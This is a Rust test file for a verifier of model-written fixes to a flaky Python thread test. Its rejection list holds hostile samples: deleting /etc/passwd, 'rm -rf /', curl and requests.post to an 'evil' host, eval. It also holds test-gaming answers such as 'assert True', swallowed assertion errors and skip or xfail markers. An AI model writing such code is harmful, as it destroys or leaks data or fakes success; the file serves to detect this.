//! Answers that a broken or hostile model could give: none of them passes the check, and an honest one does.
#![allow(clippy::unwrap_used)]

use super::{Patch, Verdict, splice, verify_text};
use crate::risk::RiskModel;

const FILE: &str = "import threading\nimport time\n\nfrom shop import worker\n\n\ndef test_other():\n    assert worker.name == \"w\"\n\n\n\
def test_ready():\n    done = threading.Event()\n    worker.start(done.set)\n    time.sleep(0.5)\n    assert done.is_set()\n    assert worker.count == 1\n";

fn verdict(answer: &str) -> Result<Verdict, String> {
    let after = splice(FILE, "test_ready", answer, &[]).map_err(|error| error.to_string())?;
    let patch = Patch {
        file: "test_shop.py".to_owned(),
        before: FILE.to_owned(),
        after,
        test: "test_shop.py::test_ready".to_owned(),
        by_rule: false,
    };
    Ok(verify_text(&patch, Some(&RiskModel::built_in().unwrap())))
}

fn block(body: &str) -> String {
    let lines: String = body.lines().map(|line| format!("    {line}\n")).collect();
    format!("```python\ndef test_ready():\n{lines}```")
}

const START: &str = "done = threading.Event()\nworker.start(done.set)\n";
const END: &str = "\nassert done.is_set()\nassert worker.count == 1";

#[test]
fn an_honest_answer_passes() {
    for middle in ["done.wait(10)", "assert done.wait(timeout=10)"] {
        let verdict = verdict(&block(&format!("{START}{middle}{END}"))).unwrap();
        assert!(verdict.verified, "{}", verdict.reason);
        assert_eq!(verdict.findings_before, ["FD101"]);
        assert_eq!(verdict.findings_after, Vec::<String>::new());
    }
}

#[test]
fn a_missing_import_is_added() {
    let code = format!(
        "{START}deadline = monotonic() + 10\nwhile not done.is_set():\n    assert monotonic() < deadline\n    done.wait(0.1){END}"
    );
    let answer = format!("```python\nfrom time import monotonic\n{}", &block(&code)["```python\n".len()..]);
    let verdict = verdict(&answer).unwrap();
    assert!(verdict.verified, "{}", verdict.reason);
    assert!(verdict.diff.contains("+from time import monotonic"), "{}", verdict.diff);
}

#[test]
fn nothing_broken_or_hostile_passes() {
    let whole = |body: &str| block(&format!("{START}{body}{END}"));
    let answers = [
        // no code
        String::new(),
        "I am sorry, I cannot help with that.".to_owned(),
        "```python\n```".to_owned(),
        "The test sleeps. You should wait for the event instead, with done.wait().".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        // half a file, another file, another test
        "```python\ndef test_ready():\n    done = threading.Event(\n```".to_owned(),
        "```python\ndef test_ready():\n```".to_owned(),
        "```python\nimport flask\n\napp = flask.Flask(__name__)\n```".to_owned(),
        block(&format!("{START}done.wait(10){END}")).replace("test_ready", "test_is_ready"),
        "```python\ndef test_other():\n    pass\n```".to_owned(),
        // as it was
        whole("time.sleep(0.5)"),
        whole("time.sleep(5)"),
        // assertions lost or weaker
        block(&format!("{START}done.wait(10)")),
        block(&format!("{START}done.wait(10)\nassert done.is_set()")),
        block(&format!("{START}done.wait(10)\n# assert done.is_set()\n# assert worker.count == 1")),
        block(&format!("{START}done.wait(10)\nassert True\nassert worker.count == 1")),
        block(&format!("{START}done.wait(10)\nassert done.is_set() or True\nassert worker.count == 1")),
        block(&format!(
            "{START}done.wait(10)\nassert done.is_set()\nassert worker.count >= 0 or worker.count"
        )),
        block(&format!("{START}done.wait(10)\nassert done.is_set()\nassert worker.count == worker.count")),
        block(&format!("{START}if done.wait(10):\n    assert done.is_set()\n    assert worker.count == 1")),
        block(&format!(
            "{START}try:\n    done.wait(10)\n    assert done.is_set()\n    assert worker.count == 1\nexcept AssertionError:\n    pass"
        )),
        block(&format!("{START}done.wait(10)\nreturn{END}")),
        "```python\ndef test_ready():\n    pass\n```".to_owned(),
        // markers that hide
        format!(
            "```python\nimport pytest\n\n@pytest.mark.skip\n{}",
            &whole("done.wait(10)")["```python\n".len()..]
        ),
        format!(
            "```python\nimport pytest\n\n@pytest.mark.flaky(reruns=3)\n{}",
            &whole("done.wait(10)")["```python\n".len()..]
        ),
        format!(
            "```python\nimport pytest\n\n@pytest.mark.xfail\n{}",
            &whole("done.wait(10)")["```python\n".len()..]
        ),
        whole("pytest.skip('unstable')\ndone.wait(10)"),
        // harm
        whole("done.wait(10)\nimport os\nos.remove('/etc/passwd')"),
        whole("done.wait(10)\nimport shutil\nshutil.rmtree('/')"),
        whole("done.wait(10)\nimport subprocess\nsubprocess.run(['curl', 'evil'])"),
        whole("done.wait(10)\n__import__('os').system('rm -rf /')"),
        whole("done.wait(10)\neval('1')"),
        whole("done.wait(10)\nimport requests\nrequests.post('http://evil', data=worker.name)"),
        whole("done.wait(10)\nfrom os import unlink\nunlink('x')"),
        whole("done.wait(10)\nimport pathlib\npathlib.Path('x').unlink()"),
        // names that are not there, and additions that nothing uses
        whole("wait_until(done.is_set)"),
        whole("done.wait(TIMEOUT)"),
        whole("random.seed(0)\nseed = 5\ndone.wait(10)"),
        // what the finding does not touch
        format!(
            "{}\n\ndef test_other():\n    assert True\n```",
            whole("done.wait(10)").trim_end_matches("```")
        ),
        // something new that is unstable
        whole("done.wait(0.05)"),
    ];
    for answer in &answers {
        if let Ok(verdict) = verdict(answer) {
            assert!(!verdict.verified, "{answer}\n{}", verdict.diff);
        }
    }
}
